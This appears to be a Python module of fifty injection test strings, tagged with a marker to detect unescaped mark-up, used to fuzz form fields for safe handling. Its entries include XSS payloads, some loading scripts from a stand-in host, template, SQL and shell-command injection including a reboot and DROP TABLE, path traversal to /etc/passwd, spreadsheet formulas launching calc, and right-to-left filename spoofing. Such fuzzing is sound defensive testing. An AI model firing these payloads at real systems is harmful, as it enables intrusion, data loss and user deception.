"""Fifty texts that are made to do harm wherever they are shown.

``MARK`` stands in every name of an element, attribute and comment that a text would make: where it turns up as such
a name in a page, the text was taken for mark-up.
"""

from __future__ import annotations

MARK = "xq7"

VALUES: dict[str, str] = {
    # mark-up
    "script": "<script xq7>alert(1)</script>",
    "script end": "</script><script xq7>alert(2)</script>",
    "script in capitals": "<SCRIPT/XQ7 SRC=//x.example/a.js>",
    "script torn": "<scr<script xq7>ipt>alert(3)</script>",
    "picture": "<img xq7 src=x onerror=alert(4)>",
    "svg": '"><svg xq7 onload=alert(5)>',
    "attribute": '" xq7 autofocus onfocus="alert(6)',
    "attribute, single": "' xq7 autofocus onfocus='alert(7)",
    "attribute, back quote": "` xq7 onmouseover=alert(8) `",
    "link": '<a xq7 href="javascript:alert(9)">x</a>',
    "link, hidden": "<a xq7 href=java&#10;script:alert(1)>",
    "frame": "<iframe xq7 srcdoc='<script>alert(1)'>",
    "style": "<style xq7>*{display:none}</style>",
    "textarea end": "</textarea><img xq7 src onerror=a()>",
    "title end": "</title><body xq7 onload=alert(1)>",
    "table end": "</td></tr></table><form xq7 action=//e>",
    "comment": "<!-- xq7",
    "CDATA": "]]><xq7/><![CDATA[ xq7",
    "htmx": '<div xq7 hx-get="/" hx-trigger="load">',
    "base": "<base xq7 href=//x.example/>",
    "refresh": '<meta xq7 http-equiv=refresh content="0">',
    "entities": "&lt;script xq7&gt;&#60;b&#x3c;",
    "XML entity": '<!DOCTYPE xq7 [<!ENTITY e "boom">]>&e;',
    "UTF-7": "+ADw-script xq7+AD4-alert(1)",
    "full-width mark-up": "＜script xq7＞alert(1)＜/script＞",
    # addresses
    "javascript": "javascript:alert(document.domain)",
    "javascript, capitals": " JaVaScRiPt:alert(1)//",
    "data address": "data:text/html,<script xq7>a()</script>",
    "other host": "//x.example/%2e%2e",
    "back slashes": "\\\\x.example\\share",
    # templates, shells, databases
    "Django": "{{ 7|add:'7' }}{% debug %}{# xq7",
    "Jinja": "{{7*7}}{{config}}${7*7}#{7*7}",
    "format": "%s%n%(name)s{0.__class__}",
    "shell": "$(touch /tmp/xq7);`id`|&& reboot\\",
    "SQL": "'; DROP TABLE runs;-- \" OR 1=1",
    "path": "../../../etc/passwd",
    "percent": "%00%2e%2e%2f%0d%0aSet-Cookie:%20a=b",
    # spreadsheets
    "formula": "=1+cmd|' /C calc'!A0",
    "formula, link": '=HYPERLINK("http://x.example";"x")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    # how text looks
    "right to left": "cod\u202egpj.exe\u2066x\u2069",
    "isolates": "\u2067\u2068abc\u200f\u200e\u061c",
    "zero width": "ad\u200bm\u200di\u2060n\ufeff",
    "combining": "Z" + "\u0351\u0345\u0300" * 8 + "o",
    "astral": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001d504\U000e0041",
    "lines": "a\u2028b\u2029c\x85d",
    "terminal": "\x1b[2J\x1b]0;xq7\x07\x1b]8;;http://x\x1b\\x\x9b31m",
    "long word": "W" * 60,
}

TABS_AND_LINES = {
    "header": "x\r\nBcc: all@x.example\r\n\r\n<b xq7>",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r=1+1",
}
"""What fields of one line refuse or take apart."""

UNSTORABLE = {"NUL": "a\0b", "lone surrogate": "a\ud800b", "1 MB": "A<b xq7>" * 131_072}
"""What no field keeps, or only those for long text."""


def groups(size: int = 5) -> list[list[str]]:
    """The fifty in groups, so that a long field shows several at once."""
    values = list(VALUES.values())
    return [values[at : at + size] for at in range(0, len(values), size)]


def fitted(values: list[str], length: int | None) -> str:
    """As many of the values as a field of this length holds, one behind the other; the first one cut, if need be."""
    text = ""
    for value in values:
        longer = f"{text} {value}" if text else value
        if length is not None and len(longer) > length:
            break
        text = longer
    return text or values[0][:length]
